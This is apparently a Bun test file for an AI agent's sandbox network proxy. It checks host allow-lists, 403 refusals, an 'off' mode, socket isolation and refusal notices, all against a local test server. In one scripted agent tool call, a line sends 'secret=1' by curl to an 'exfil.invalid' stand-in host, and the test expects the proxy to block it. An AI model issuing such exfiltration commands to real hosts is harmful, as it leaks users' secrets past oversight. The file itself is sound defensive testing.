// The sandbox's network through settings (runtime/sandbox): `off` reaches nothing; a host list
// reaches only its hosts, through the runtime's proxy (CONNECT and plain http), and a refusal is
// a 403 the model reads and a notice the window shows. The only target is this test's own server
// on 127.0.0.1; refused names end in .invalid, which never resolve, and the proxy refuses them
// before any lookup.
import { afterAll, expect, test } from "bun:test"
import { spawn } from "node:child_process"
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from "node:fs"
import { createServer } from "node:http"
import { createServer as createNetServer } from "node:net"
import { tmpdir } from "node:os"
import { join } from "node:path"
import { fauxAssistantMessage, fauxToolCall } from "@earendil-works/pi-ai"
import type { NoticeItem, ToolItem } from "../../src/protocol"
import { SessionSandbox } from "../../src/runtime/sandbox/session-sandbox"
import { readSandboxSettings } from "../../src/runtime/sandbox/settings"
import { createFauxFixture } from "../fixture/faux"

const root = mkdtempSync(join(tmpdir(), "xagent-net-test-"))
const cwd = join(root, "work")
mkdirSync(cwd)
const seen: string[] = []
const server = createServer((req, res) => {
  seen.push(req.url ?? "")
  res.end(`reached ${req.url}\n`)
})
await new Promise<void>((r) => server.listen(0, "127.0.0.1", () => r()))
const port = (server.address() as { port: number }).port
const sandboxes: SessionSandbox[] = []
afterAll(() => {
  for (const sb of sandboxes) sb.dispose()
  server.close()
  rmSync(root, { recursive: true, force: true })
})

/** A session's sandbox whose settings.json says `network`. */
function sandboxWith(network: unknown): { sb: SessionSandbox; notices: string[] } {
  const home = mkdtempSync(join(root, "home-"))
  writeFileSync(join(home, "settings.json"), JSON.stringify({ sandbox: { network } }))
  const sb = new SessionSandbox({ xagentHome: home, agentDir: join(root, "agent") })
  const notices: string[] = []
  sb.onNetworkRefused = (t) => notices.push(t)
  sandboxes.push(sb)
  return { sb, notices }
}

/** Spawned, not spawnSync: the proxy and the servers answer from this process's event loop. */
async function run(sb: SessionSandbox, command: string): Promise<string> {
  return (await runStatus(sb, command)).out
}

async function runStatus(sb: SessionSandbox, command: string): Promise<{ out: string; code: number | null }> {
  const argv = (await sb.argv(cwd, "bash", command, async () => false))!
  const child = spawn(argv[0]!, argv.slice(1), { cwd, stdio: ["ignore", "pipe", "pipe"] })
  let out = ""
  child.stdout.on("data", (d) => (out += d))
  child.stderr.on("data", (d) => (out += d))
  const code = await new Promise<number | null>((r) => child.on("close", r))
  return { out, code }
}

const url = (path: string) => `http://127.0.0.1:${port}${path}`

test("a listed host is reached through the proxy, as plain http and through a CONNECT tunnel", async () => {
  const { sb, notices } = sandboxWith(["127.0.0.1"])
  const out = await run(sb, `curl -sS -m 10 ${url("/plain")}; curl -sS -m 10 --proxytunnel ${url("/tunnel")}`)
  expect(out).toBe("reached /plain\nreached /tunnel\n")
  expect(seen).toContain("/plain")
  expect(seen).toContain("/tunnel")
  expect(notices).toEqual([])
})

test("through the forwarder the command's status is its own, and what it leaves running is named", async () => {
  const { sb } = sandboxWith(["127.0.0.1"])
  expect(await runStatus(sb, "exit 7")).toEqual({ out: "", code: 7 })
  const left = await runStatus(sb, "sleep 30 & echo started")
  expect(left.code).toBe(0)
  expect(left.out).toContain("[sandbox] still running when the command ended, so stopped with it:")
  expect(left.out).toContain("sleep 30")
  expect(left.out).not.toContain("net-forwarder")
})

test("a host not listed gets the proxy's 403 text, is never contacted, and the session is told once", async () => {
  const { sb, notices } = sandboxWith(["*.example.invalid"])
  const before = seen.length
  const out = await run(
    sb,
    [
      "curl -sS -m 10 http://not-listed.invalid/x",
      "curl -sS -m 10 http://not-listed.invalid/again",
      "curl -sS -m 10 https://other.invalid/; echo rc=$?",
      // The proxy itself, asked for this test's server: refused, since 127.0.0.1 is not listed.
      `curl -sS -m 10 --noproxy '' ${url("/refused")}`,
      // Not through the proxy: the sandbox's own loopback, where nothing listens.
      `curl -sS -m 10 ${url("/direct")}; echo rc=$?`,
    ].join("; "),
  )
  expect(out).toContain("xagent's sandbox refused the connection to not-listed.invalid: it is not in sandbox.network")
  expect(out).toContain("(allowed: *.example.invalid)")
  expect(out).toContain("CONNECT tunnel failed, response 403")
  expect(out).toContain("refused the connection to 127.0.0.1")
  expect(out).toMatch(/Failed to connect to 127\.0\.0\.1|Couldn't connect/)
  expect(seen.length).toBe(before)
  expect(notices).toEqual([
    "Sandbox network: refused not-listed.invalid, not in sandbox.network (later refusals of it are not shown)",
    "Sandbox network: refused other.invalid, not in sandbox.network (later refusals of it are not shown)",
    "Sandbox network: refused 127.0.0.1, not in sandbox.network (later refusals of it are not shown)",
  ])
})

test("`off` cannot reach the host's server at all, by proxy or directly", async () => {
  const { sb } = sandboxWith("off")
  const before = seen.length
  const out = await run(
    sb,
    `curl -sS -m 10 ${url("/off")}; echo rc=$?; curl -sS -m 10 -x http://127.0.0.1:47801 ${url("/off")}; echo rc=$?; env | grep -c 127.0.0.1:47801`,
  )
  expect(out).not.toContain("reached")
  expect(out).toContain("rc=7")
  // No proxy of xagent's is set up (whatever proxy variables the person's own environment has).
  expect(out.trim().split("\n").at(-1)).toBe("0")
  expect(seen.length).toBe(before)
})

test("with a host list, the host's abstract unix sockets are out of reach (a network namespace of its own)", async () => {
  const name = `\0xagent-abstract-${process.pid}`
  const abs = createNetServer((c) => c.end("reached abstract\n"))
  await new Promise<void>((r) => abs.listen(name, () => r()))
  try {
    const probe = `${process.execPath} -e 'require("node:net").connect(${JSON.stringify(name)}).on("data", (d) => process.stdout.write(d)).on("error", (e) => console.log("error", e.code))'`
    expect(await run(sandboxWith("on").sb, probe)).toBe("reached abstract\n")
    expect(await run(sandboxWith(["127.0.0.1"]).sb, probe)).toMatch(/^error E/)
  } finally {
    abs.close()
  }
})

test("settings: a host list is read, a bad entry turns the network off and says why", () => {
  const home = mkdtempSync(join(root, "settings-"))
  const write = (network: unknown) =>
    writeFileSync(join(home, "settings.json"), JSON.stringify({ sandbox: { network } }))
  write(["GitHub.com.", "*.npmjs.org", "*", "[::1]"])
  expect(readSandboxSettings(home).network).toEqual({ kind: "hosts", hosts: ["github.com", "*.npmjs.org", "*", "::1"] })
  for (const bad of [["http://x.com"], ["a b"], [3], "some"]) {
    write(bad)
    const s = readSandboxSettings(home)
    expect(s.network).toEqual({ kind: "off" })
    expect(s.problem).toContain("sandbox.network")
  }
})

test("the agent's bash reads the proxy's refusal, the reply goes on, and the window shows a notice", async () => {
  // Read when the session opens, so the file only has to exist until then.
  mkdirSync(process.env.XAGENT_HOME!, { recursive: true })
  const settings = join(process.env.XAGENT_HOME!, "settings.json")
  writeFileSync(settings, JSON.stringify({ sandbox: { network: ["127.0.0.1"] } }))
  const fx = await createFauxFixture()
  try {
    const { sessionId } = await fx.open()
    rmSync(settings)
    const rec = fx.record(sessionId)
    fx.faux.setResponses([
      fauxAssistantMessage(
        [
          fauxToolCall("bash", { command: `curl -sS -m 10 ${url("/agent")}` }),
          fauxToolCall("bash", { command: "curl -sS -m 10 http://exfil.invalid/?secret=1" }),
        ],
        { stopReason: "toolUse" },
      ),
      fauxAssistantMessage("Carried on."),
    ])
    await fx.client.request("session.prompt", { sessionId, text: "go" })
    const s = await rec.waitFor(
      (s) => !s.running && s.items.some((i) => i.kind === "assistant" && JSON.stringify(i).includes("Carried on.")),
      "the reply",
    )
    const [ok, refused] = s.items.filter((i): i is ToolItem => i.kind === "tool")
    expect(ok!.output).toContain("reached /agent")
    expect(refused!.output).toContain("xagent's sandbox refused the connection to exfil.invalid")
    const notices = s.items.filter((i): i is NoticeItem => i.kind === "notice").map((n) => n.text)
    expect(notices).toContain(
      "Sandbox network: refused exfil.invalid, not in sandbox.network (later refusals of it are not shown)",
    )
  } finally {
    rmSync(settings, { force: true })
    await fx.dispose()
  }
})
